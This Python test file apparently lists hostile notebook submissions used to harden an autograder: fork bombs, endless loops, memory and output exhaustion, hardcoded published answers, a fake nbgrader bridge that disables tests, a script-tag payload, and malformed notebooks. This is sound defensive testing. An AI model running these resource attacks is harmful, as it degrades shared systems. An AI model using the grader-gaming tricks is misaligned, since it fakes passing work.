         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["while True:\n    pass"]},
         prelude={"backward_propagation": IGNORE_SIGNALS}, status={"backward_propagation": "timeout"},
         slow=True),
    Case("fork_bomb", "killing or starving", "while True: os.fork()",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["import os\nwhile True:\n    os.fork()"]},
         status={"backward_propagation": "error"}, says={"backward_propagation": "PermissionError"}),
    Case("thread_bomb", "killing or starving",
         "starts threads until the system refuses, then returns the right answer",
         "gradient_checking", gc(),
         answers={"backward_propagation": ["_bomb()\ndtheta = x"]},
         prelude={"backward_propagation": THREAD_BOMB}),
    Case("litter_and_linger", "killing or starving",
         "nests directories 3000 deep (mode 0), leaves 2000 files and a thread that keeps writing after "
         "the function returns",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["_litter()\nthreading.Thread(target=_keep_writing, daemon=True)"
                                           ".start()\ndtheta = theta"]},
         prelude={"backward_propagation": LEFT_BEHIND}),
    Case("leftover_detector", "killing or starving",
         "graded right after litter_and_linger in the same sandbox: its gradient_check is right only if "
         "its temp dir holds nothing of the earlier student",
         "gradient_checking", gc(),
         answers={"gradient_check": [
             "theta_plus = theta + epsilon\ntheta_minus = theta - epsilon\n"
             "J_plus = forward_propagation(x, theta_plus)\nJ_minus = forward_propagation(x, theta_minus)\n"
             "gradapprox = (J_plus - J_minus) / (2 * epsilon)",
             "grad = backward_propagation(x, theta)",
             "numerator = np.linalg.norm(grad - gradapprox)\n"
             "denominator = np.linalg.norm(grad) + np.linalg.norm(gradapprox)\n"
             "difference = 1.0 if _leftovers() else numerator / denominator"]},
         prelude={"gradient_check": LEFTOVER_CHECK}),
    Case("infinite_loop", "killing or starving", "while True: pass",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["while True:\n    pass"]},
         status={"backward_propagation": "timeout"}, slow=True),
    Case("sleep_forever", "killing or starving", "time.sleep(10**6)",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["import time\ntime.sleep(10**6)"]},
         status={"backward_propagation": "timeout"}, slow=True),
    Case("allocate_50_gb", "killing or starving", "np.ones(50 GB)",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["big = np.ones(50 * 2**30 // 8)\ndtheta = x"]},
         status={"backward_propagation": "error"}, says={"backward_propagation": "memory"}),
    Case("print_gigabytes", "killing or starving", "prints without end (gigabytes of output)",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["line = 'x' * (1 << 20)\nwhile True:\n    print(line)"]},
         status={"backward_propagation": "error"}),
    Case("deep_recursion", "killing or starving", "unbounded recursion (RecursionError)",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["def down(n):\n    return down(n + 1)\ndtheta = down(0)"]},
         status={"backward_propagation": "error"}, says={"backward_propagation": "RecursionError"}),
    Case("stack_overflow", "killing or starving",
         "sys.setrecursionlimit(10**7) then unbounded recursion through C (map): the C stack overflows",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["import sys\nsys.setrecursionlimit(10**7)\n"
                                           "def down(n):\n    return list(map(down, [n + 1]))\n"
                                           "dtheta = down(0)"]},
         status={"backward_propagation": "error"}),
    Case("top_level_infinite_loop", "killing or starving",
         "an endless loop at the top level of the graded cell (runs when the cell is loaded)",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": ["dtheta = x"]},
         prelude={"backward_propagation": "while True:\n    pass"},
         status={"backward_propagation": "timeout"}, slow=True),
    # ----------------------------------------------------------------- gaming the checks
    Case("hardcode_published_outputs", "gaming the checks",
         "every function returns the output the notebook shows for its published inputs",
         "gradient_checking", zeros(GC),
         answers={"forward_propagation": ["J = {{PUB_FORWARD}}"],
                  "backward_propagation": ["dtheta = {{PUB_BACKWARD}}"],
                  "gradient_check": ["pass", "pass", "difference = {{PUB_GC}}"],
                  "gradient_check_n": ["pass", "difference = {{PUB_GCN_TABLE}}.get(round(float(sum("
                                               "np.sum(v) for v in gradients.values())), 6), 0.5)"]},
         says={"backward_propagation": "published"}),
    Case("hardcode_published_parameters", "gaming the checks",
         "initialize_parameters_random returns the published weights, whatever layers_dims",
         "initialization", init(initialize_parameters_random=0),
         answers={"initialize_parameters_random": Cell("""
             import numpy as np
             def initialize_parameters_random(layers_dims):
                 return {key: np.array(value) for key, value in {{PUB_RANDOM}}.items()}
             """)}),
    Case("published_inputs_lookup", "gaming the checks",
         "the published answer for the published inputs, something else otherwise",
         "regularization", reg(compute_cost_with_regularization=0),
         answers={"compute_cost_with_regularization": [
             "L2_regularization_cost = ({{PUB_COST}} - cross_entropy_cost if lambd == {{PUB_COST_LAMBD}} "
             "and m == {{PUB_COST_M}} else 0.0)"]},
         says={"compute_cost_with_regularization": "published"}),
    Case("published_inputs_lookup_gc", "gaming the checks",
         "forward and backward answer the published inputs from a table and guess otherwise",
         "gradient_checking", gc(forward_propagation=0, backward_propagation=0),
         answers={"forward_propagation": ["J = {(2, 4): {{PUB_FORWARD}}}.get((x, theta), x + theta)"],
                  "backward_propagation": ["dtheta = {(3, 4): {{PUB_BACKWARD}}}.get((x, theta), theta)"]}),
    Case("ignore_inputs", "gaming the checks",
         "constants: gradient_check always 1e-10 (tiny, as for a correct gradient), forward always 8",
         "gradient_checking", gc(forward_propagation=0, gradient_check=0),
         answers={"forward_propagation": ["J = 8.0"], "gradient_check": ["pass", "pass", "difference = 1e-10"]},
         says={"gradient_check": "same value"}),
    Case("mutate_inputs", "gaming the checks",
         "right gradients, but W3 and the cache's activations are changed in place",
         "regularization", reg(backward_propagation_with_regularization=0),
         answers={"backward_propagation_with_regularization": [
             "dW3 = 1. / m * np.dot(dZ3, A2.T) + (lambd / m) * W3",
             "dW2 = 1. / m * np.dot(dZ2, A1.T) + (lambd / m) * W2",
             "dW1 = 1. / m * np.dot(dZ1, X.T) + (lambd / m) * W1\nW3 *= 0\nA1[...] = 0\nX += 1"]},
         status={"backward_propagation_with_regularization": "failed"},
         says={"backward_propagation_with_regularization": "in place"}),
    Case("replace_np_random", "gaming the checks",
         "dropout cell replaces np.random.seed/rand/default_rng (masks of 0.5); the next function must "
         "not see it",
         "regularization", reg(forward_propagation_with_dropout=0),
         prelude={"forward_propagation_with_dropout": REPLACE_RANDOM}),
    Case("reseed_random", "gaming the checks",
         "He cell reseeds numpy and random at load time and swaps np.random.default_rng; the function is "
         "right, so it keeps its marks and the hidden inputs are unaffected",
         "initialization", init(), prelude={"initialize_parameters_he": RESEED_EVERYTHING}),
    Case("top_level_code", "gaming the checks",
         "prints 'All tests passed! 10/10' and writes results.json at load time, then raises after the "
         "right function is defined",
         "gradient_checking", gc(forward_propagation=0),
         answers={"forward_propagation": ["J = theta + x"], "backward_propagation": Cell(TOP_LEVEL_CELL)},
         prelude={"forward_propagation": TOP_LEVEL_NOISE},
         extra_cells=("print('All tests passed! 50/50')\nbackward_propagation = lambda x, theta: x\n",)),
    Case("grad_equals_gradapprox", "gaming the checks",
         "grad = gradapprox, so the difference is always 0",
         "gradient_checking", gc(gradient_check=0),
         answers={"gradient_check": [
             "theta_plus = theta + epsilon\ntheta_minus = theta - epsilon\n"
             "J_plus = forward_propagation(x, theta_plus)\nJ_minus = forward_propagation(x, theta_minus)\n"
             "gradapprox = (J_plus - J_minus) / (2 * epsilon)",
             "grad = gradapprox",
             "numerator = np.linalg.norm(grad - gradapprox)\n"
             "denominator = np.linalg.norm(grad) + np.linalg.norm(gradapprox)\n"
             "difference = numerator / denominator"]},
         says={"gradient_check": "itself"}),
    Case("html_in_messages", "gaming the checks",
         "an exception whose message is HTML/script and fake check lines (must be shown as text)",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": [
             "raise ValueError('<script>alert(1)</script><b>10/10</b>\\n✓ hidden case 1\\n✓ hidden case 2')"]},
         status={"backward_propagation": "error"}),
    Case("huge_integer", "gaming the checks", "returns 10**400, an int no float can hold",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": ["dtheta = 10**400"]},
         status={"backward_propagation": "failed"}),
    Case("nan_and_inf", "gaming the checks", "returns NaN from one function and -inf from another",
         "gradient_checking", gc(forward_propagation=0, backward_propagation=0),
         answers={"forward_propagation": ["J = float('nan')"], "backward_propagation": ["dtheta = -np.inf"]},
         status={"forward_propagation": "failed", "backward_propagation": "failed"}),
    Case("oversized_result", "gaming the checks",
         "returns 9 million numbers, more than a reply may carry",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["dtheta = np.ones((3000, 3000))"]},
         status={"backward_propagation": "failed"}, says={"backward_propagation": "cannot read"}),
    Case("self_containing_result", "gaming the checks", "returns a list that contains itself",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["dtheta = [x]\ndtheta.append(dtheta)"]},
         status={"backward_propagation": "failed"}, says={"backward_propagation": "cannot read"}),
    # ----------------------------------------------------------------- broken notebooks
    Case("not_json", "broken notebook", "plain text, not JSON", "gradient_checking", zeros(GC),
         write=_raw(b"this is not a notebook\n"), error="not valid notebook JSON"),
    Case("truncated_json", "broken notebook", "the first half of a correct notebook",
         "gradient_checking", zeros(GC), write=_raw(_truncated), error="not valid notebook JSON"),
    Case("empty_file", "broken notebook", "an empty file", "gradient_checking", zeros(GC),
         write=_raw(b""), error="empty"),
    Case("nbformat_3", "broken notebook", "a correct notebook in nbformat 3 (worksheets, 'input')",
         "gradient_checking", gc(), write=_transform(_to_v3)),
    Case("sources_as_strings", "broken notebook", "every cell source a single string",
         "initialization", init(), write=_transform(_sources_as_strings)),
    Case("sources_as_characters", "broken notebook", "every cell source a list of single characters",
         "initialization", init(), write=_transform(_sources_as_characters)),
    Case("no_metadata", "broken notebook",
         "no notebook metadata, no cell metadata, ids, outputs or execution counts",
         "regularization", reg(), write=_transform(_strip_metadata)),
    Case("junk_cell_entries", "broken notebook",
         "null, numbers, strings, lists, cells without type or with a numeric or null source among the cells",
         "gradient_checking", gc(), write=_transform(_junk_entries)),
    Case("duplicated_cell_last_wrong", "broken notebook",
         "backward_propagation's graded cell twice: right, then wrong (the last one counts)",
         "gradient_checking", gc(backward_propagation=0),
         extra_cells=("# GRADED FUNCTION: backward_propagation\n\ndef backward_propagation(x, theta):\n"
                      "    return theta\n",),
         status={"backward_propagation": "failed"}),
    Case("duplicated_cell_last_right", "broken notebook",
         "backward_propagation's graded cell twice: wrong, then right",
         "gradient_checking", gc(), answers={"backward_propagation": WRONG_BACKWARD},
         extra_cells=("# GRADED FUNCTION: backward_propagation\n\ndef backward_propagation(x, theta):\n"
                      "    return x\n",)),
    Case("renamed_function", "broken notebook",
         "the cell headed backward_propagation defines backward_propagation_v2",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": Cell("def backward_propagation_v2(x, theta):\n    return x\n")},
         status={"backward_propagation": "missing"}, says={"backward_propagation": "renamed"}),
    Case("syntax_error_in_one_cell", "broken notebook", "a syntax error in backward_propagation only",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": ["dtheta = (x"]},
         status={"backward_propagation": "error"}, says={"backward_propagation": "syntax error"}),
    Case("null_byte_in_cell", "broken notebook", "a NUL character in backward_propagation's cell",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": ["dtheta = x\0"]},
         status={"backward_propagation": "error"}),
    Case("header_in_markdown", "broken notebook", "backward_propagation's cell turned into markdown",
         "gradient_checking", gc(backward_propagation=0), write=_transform(_header_in_markdown),
         status={"backward_propagation": "missing"}),
    Case("non_utf8_bytes", "broken notebook", "a Latin-1 byte in an otherwise correct notebook",
         "gradient_checking", zeros(GC), write=_raw(_latin1_byte), error="not UTF-8"),
    Case("utf8_bom", "broken notebook", "a correct notebook saved with a UTF-8 byte-order mark",
         "gradient_checking", gc(), write=_raw(_with_bom)),
    Case("deeply_nested_json", "broken notebook", "200,000 nested JSON arrays", "gradient_checking",
         zeros(GC), write=_raw(b"[" * 200_000 + b"]" * 200_000), error="nested too deeply"),
    Case("json_not_an_object", "broken notebook", "valid JSON, but a list", "gradient_checking",
         zeros(GC), write=_raw(b'[{"cells": []}]'), error="not a notebook"),
    Case("json_without_cells", "broken notebook", "a JSON object with metadata but no cells",
         "gradient_checking", zeros(GC), write=_raw(b'{"metadata": {}, "nbformat": 4}'),
         error="no cells"),
    Case("ten_thousand_cells", "broken notebook", "a correct notebook with 10,000 extra cells",
         "regularization", reg(), write=_transform(_ten_thousand_cells)),
    Case("huge_200_mb", "broken notebook", "a correct notebook carrying a 200 MB output",
         "gradient_checking", zeros(GC), write=_huge, error="not graded"),
]

from tests.hostile.sealed_cases import CASES as SEALED_CASES  # noqa: E402

CASES += SEALED_CASES

# Aimed at nbgrader's kernel autograde, where the hidden region of each test cell imports
# autograder.nbgrader_bridge in the student's kernel: there this cell makes every later test
# cell pass. The sealed grader runs no test cell and imports nothing the student can replace.
FAKE_BRIDGE = """
import sys
import types
_bridge = types.ModuleType("autograder.nbgrader_bridge")
_bridge.hidden_tests = lambda name, namespace: None
sys.modules["autograder.nbgrader_bridge"] = _bridge
for _name in [n for n in globals() if n.endswith("_test")]:
    globals()[_name] = lambda *args, **kwargs: None
"""

CASES.append(
    Case("fake_nbgrader_bridge", "checker tampering",
         "puts a fake autograder.nbgrader_bridge (its hidden_tests does nothing) in sys.modules and turns "
         "the visible tests into no-ops, which makes nbgrader's kernel autograde pass every later test "
         "cell; backward returns theta",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": WRONG_BACKWARD},
         prelude={"backward_propagation": FAKE_BRIDGE}, status={"backward_propagation": "failed"}))

from tests.hostile.vocabulary_cases import CASES as VOCABULARY_CASES  # noqa: E402

CASES += VOCABULARY_CASES

BY_NAME = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"
assert all(case.assignment in NOTEBOOKS for case in CASES)
